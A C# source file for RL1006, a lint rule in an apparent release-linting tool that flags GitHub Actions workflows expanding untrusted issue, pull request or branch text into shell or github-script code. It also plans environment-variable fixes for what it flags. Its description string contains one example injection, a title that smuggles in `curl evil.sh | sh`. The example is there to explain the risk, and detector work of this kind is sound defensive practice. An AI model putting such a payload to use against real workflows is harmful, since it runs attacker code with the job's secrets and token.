using System.Text.RegularExpressions;
using ReleaseLint.Inputs;
using ReleaseLint.Inputs.Workflows;
using ReleaseLint.Inputs.Workflows.Expressions;
using ReleaseLint.Inputs.Yaml;

namespace ReleaseLint.Rules.Workflows;

/// <summary>RL1006: attacker-controllable text expanded with <c>${{ }}</c> into a script.</summary>
public sealed partial class RL1006TemplateInjection : WorkflowRule
{
    /// <summary>The rule's metadata.</summary>
    public static readonly RuleDescriptor Definition = new("RL1006", "template-injection",
        "Untrusted text expanded into a script",
        "An attacker-controllable value (issue, pull request, comment and commit text, branch names such as github.head_ref, untyped inputs, or step, job and env values derived from them) expanded with ${{ }} inside a run: script or the script: of actions/github-script. GitHub pastes the value into the script before it runs, so a title like a\"; curl evil.sh | sh; \" runs as code with the job's secrets and token. Numbers, SHAs, ids, logins, step outcomes and ternaries of literals are known to be safe and are not reported.",
        Severity.Error, RuleCategory.Workflows, ["workflows", "security", "injection"], securitySeverity: 8.8)
    {
        Reads = RuleInputs.Workflows | RuleInputs.Actions,
        Fix = new("move the expression into the step's `env:` and use `\"${NAME}\"` (`process.env.NAME` in github-script)", "safe inside double quotes, here-documents and whole quoted words; unsafe unquoted or inside single quotes"),
    };

    /// <inheritdoc />
    public override RuleDescriptor Descriptor => Definition;

    /// <inheritdoc />
    protected override bool IncludesActions => true;

    /// <inheritdoc />
    protected override void CheckWorkflow(RuleContext context, WorkflowFile workflow)
    {
        foreach (var job in workflow.Jobs)
            foreach (var step in job.Steps)
                CheckStep(context, workflow.Source, workflow.Root, step, ExpressionScope.ForWorkflow(workflow, job, step), WorkflowPlace.Of(job, step), "workflow",
                    EffectiveShell(step, job, workflow), [workflow.Env, job.Env]);
    }

    /// <inheritdoc />
    protected override void CheckAction(RuleContext context, ActionFile action)
    {
        foreach (var step in action.Steps)
            CheckStep(context, action.Source, action.Root, step, ExpressionScope.ForAction(action, step), WorkflowPlace.Of(step), "action", step.Shell, []);
    }

    /// <summary>One reported expression, with the fix planned for it.</summary>
    private sealed record Problem(SourceLocation At, string Message, string Key, EnvFix? Fix);

    private static void CheckStep(RuleContext context, SourceText source, YamlNode? root, WorkflowStep step, ExpressionScope scope, WorkflowPlace place, string callerKind,
        string? shell, IReadOnlyList<YamlMapping?> outerEnv)
    {
        var problems = new List<Problem>();
        var fixes = new EnvFixPlanner(source, root, step, outerEnv);
        if (step.Run is { } run) Check(problems, fixes, run, scope, place, "run: script", shell: true, callerKind, IsPosixShell(shell));
        if (step.UsesAction("actions/github-script") && step.WithInput("script") is { } script)
            Check(problems, fixes, script, scope, place, "github-script script:", shell: false, callerKind, fixable: true);
        // Reported after the whole step is planned: each fix adds every variable of its safety in one shared edit.
        foreach (var problem in problems)
            context.At(problem.At).In(place).Key(problem.Key).Fix(problem.Fix is { } fix ? fixes.Build(fix) : null).Report(problem.Message);
    }

    private static void Check(List<Problem> problems, EnvFixPlanner fixes, YamlScalar script, ExpressionScope scope, WorkflowPlace place, string what, bool shell, string callerKind, bool fixable)
    {
        var where = place.Describe();
        var expressions = ExpressionTemplate.Scan(script.Value);
        foreach (var expression in expressions)
        {
            if (expression.Node is null) continue;
            var untrusted = ExpressionTaint.Find(expression.Node, scope);
            if (untrusted.Count == 0) continue;
            var first = untrusted.FirstOrDefault(u => u.Origin == ValueOrigin.AttackerControlled) ?? untrusted[0];
            var written = expression.Raw;
            var origin = Describe(first, callerKind);
            var variable = VariableName(first.Node.ContextPath(preserveCase: true) ?? first.Source);
            var inner = expression.Text.Trim();
            var envPath = WorkflowConditions.Unwrap(expression.Node).ContextPath(preserveCase: true);
            var isEnv = envPath is not null && envPath.StartsWith("env.", StringComparison.OrdinalIgnoreCase) && envPath.Count(c => c == '.') == 1;
            var advice = isEnv
                ? shell ? $"use the environment variable itself: \"${variable}\"" : $"read process.env.{variable} instead"
                : shell
                ? $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and use \"${variable}\""
                : $"pass it through an environment variable instead (env: {variable}: ${{{{ {inner} }}}}) and read process.env.{variable}";
            var plan = fixable ? fixes.Plan(script, expression, expressions, isEnv ? envPath!["env.".Length..] : variable, isEnv, shell) : null;
            problems.Add(new Problem(expression.Locate(script),
                $"'{written}' in the {what} of {where} expands {origin} into the {(shell ? "shell script" : "JavaScript")} before it runs; {advice}",
                written, plan));
        }
    }

    /// <summary>The shell a run step uses: its <c>shell:</c>, else the job's and the workflow's <c>defaults.run.shell</c>, else bash (pwsh on a Windows runner); null when unknown.</summary>
    private static string? EffectiveShell(WorkflowStep step, WorkflowJob job, WorkflowFile workflow)
    {
        if (step.Shell is { } own) return own;
        static string? Default(YamlMapping? node) => ((node?["defaults"] as YamlMapping)?["run"] as YamlMapping)?.GetString("shell");
        if ((Default(job.Node) ?? Default(workflow.Root)) is { } configured) return configured;
        return job.RunsOn switch
        {
            YamlScalar s when ExpressionTemplate.HasExpressions(s.Value) => null,
            YamlScalar s => s.Value.Contains("windows", StringComparison.OrdinalIgnoreCase) ? "pwsh" : "bash",
            YamlSequence q when q.Items.All(i => i is YamlScalar x && !ExpressionTemplate.HasExpressions(x.Value)) =>
                q.Items.Any(i => ((YamlScalar)i).Value.Contains("windows", StringComparison.OrdinalIgnoreCase)) ? "pwsh" : "bash",
            _ => null,
        };
    }

    private static bool IsPosixShell(string? shell) =>
        shell is not null && (shell.Trim().Split(' ')[0] is "bash" or "sh");

    private static string Describe(UntrustedValue value, string callerKind)
    {
        var who = value.Origin == ValueOrigin.AttackerControlled
            ? "attacker-controlled text"
            : $"a value the caller of this {callerKind} controls";
        return value.Via.Length > 0
            ? $"{who} ({value.Via})"
            : $"{who} ({value.Source})";
    }

    [GeneratedRegex("[^A-Za-z0-9]+")]
    private static partial Regex NonWord();

    private static string VariableName(string path)
    {
        var parts = path.Split('.', StringSplitOptions.RemoveEmptyEntries).Where(p => p != "*").ToArray();
        if (parts.Length == 0) return "VALUE";
        var last = parts[^1];
        // env.X is already a variable; outputs and generic leaves read better with their owner.
        if (parts[0].Equals("env", StringComparison.OrdinalIgnoreCase) && parts.Length == 2) return NonWord().Replace(last, "_").ToUpperInvariant();
        var owner = parts.Length >= 3 ? parts[^2] : "";
        if (owner is "outputs" or "inputs" && parts.Length >= 4) owner = parts[^3];
        var name = last is "title" or "body" or "message" or "ref" or "name" or "email" or "label" && owner.Length > 0 ? owner + "_" + last : last;
        name = NonWord().Replace(name, "_").Trim('_').ToUpperInvariant();
        return name.Length == 0 ? "VALUE" : char.IsAsciiDigit(name[0]) ? "V_" + name : name;
    }
}
